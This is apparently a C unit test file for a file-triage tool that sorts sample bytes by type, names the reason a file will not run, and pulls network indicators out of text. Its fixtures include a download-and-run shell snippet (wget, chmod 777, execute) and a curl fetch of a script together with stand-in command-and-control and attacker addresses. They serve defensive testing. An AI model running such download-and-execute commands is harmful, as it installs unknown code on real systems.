/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "triage/triage.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>

#include <cmocka.h>
#include <jansson.h>
#include <string.h>

#define TEXT(s) s, sizeof(s) - 1

static const struct {
    const char *name, *bytes;
    size_t n;
    const char *type;
    const char *refusal; /* part of it, NULL: runnable */
} kinds[] = {
    {"x", TEXT(""), "empty", "empty"},
    {"x", TEXT("#!/bin/sh\necho\n"), "script", NULL},
    {"x.py", TEXT("#!/usr/bin/env python3\n"), "script", NULL},
    {"x.py", TEXT("print(1)\n"), "python", NULL},
    {"X.SH", TEXT("ls\n"), "shell", NULL},
    {"update", TEXT("cd /tmp\nwget http://a.example/b\nchmod 777 b\n./b\n"), "shell", NULL},
    {"readme", TEXT("This is a letter to a friend.\nIt has two lines.\n"), "text", "no program"},
    {"x", TEXT("%PDF-1.7\n"), "pdf", "PDF"},
    {"x", TEXT("MZ\x90\0"), "pe", "Windows"},
    {"x", TEXT("PK\3\4"), "zip", "ZIP"},
    {"x",
     TEXT("\x7f"
          "ELF"),
     "elf", "damaged"},
    {"x",
     TEXT("\x7f"
          "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x2b\0\1\0\0\0"),
     "elf", "no system here runs that"},
    {"x",
     TEXT("\x7f"
          "ELF\2\1\1\0\0\0\0\0\0\0\0\0\1\0\x3e\0\1\0\0\0"),
     "elf", "object file"},
    {"x",
     TEXT("\x7f"
          "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0\1\0\0\0"),
     "elf", "no program headers"},
    {"x", TEXT("\0\1\2\3\4\5"), "data", "not known"},
};

static json_t *describe(const char *name, const void *p, size_t n)
{
    struct buf b = {0};
    struct err e = {0};
    json_t *j;

    assert_int_equal(triage_bytes(p, n, name, &b, &e), 0);
    j = json_loadb((char *)b.data, b.len, JSON_REJECT_DUPLICATES, NULL);
    assert_non_null(j);
    buf_free(&b);
    return j;
}

static void test_kinds(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
        json_t *j = describe(kinds[i].name, kinds[i].bytes, kinds[i].n);
        const char *refusal = json_string_value(json_object_get(j, "not_runnable"));

        assert_string_equal(json_string_value(json_object_get(j, "type")), kinds[i].type);
        if (!kinds[i].refusal && refusal)
            fail_msg("row %zu: refused: %s", i, refusal);
        if (kinds[i].refusal && (!refusal || !strstr(refusal, kinds[i].refusal)))
            fail_msg("row %zu: \"%s\" lacks \"%s\"", i, refusal ? refusal : "(runnable)", kinds[i].refusal);
        json_decref(j);
    }
}

static bool has(const json_t *j, const char *list, const char *text)
{
    const json_t *v;
    size_t i;
    json_array_foreach(json_object_get(json_object_get(j, "indicators"), list), i,
                       v) if (!strcmp(json_string_value(v), text)) return true;
    return false;
}

static void test_indicators(void **state)
{
    static const char text[] = "#!/bin/sh\ncurl -o /tmp/x.bin 'http://203.0.113.9:8080/a.sh?x=1'; ping 198.51.100.7\n"
                               "mail me@evil.example now; host c2.evil.example. 999.1.1.1 "
                               "1.2.3\nh\0t\0t\0p\0:\0/\0/\0w\0.\0c\0o\0m\0/\0q\0\0\0";
    json_t *j = describe("a", text, sizeof(text) - 1);

    (void)state;
    assert_true(has(j, "urls", "http://203.0.113.9:8080/a.sh?x=1"));
    assert_true(has(j, "urls", "http://w.com/q"));
    assert_true(has(j, "ips", "198.51.100.7"));
    assert_false(has(j, "ips", "999.1.1.1"));
    assert_true(has(j, "emails", "me@evil.example"));
    assert_true(has(j, "domains", "c2.evil.example"));
    assert_true(has(j, "paths", "/tmp/x.bin"));
    json_decref(j);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_kinds), cmocka_unit_test(test_indicators)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
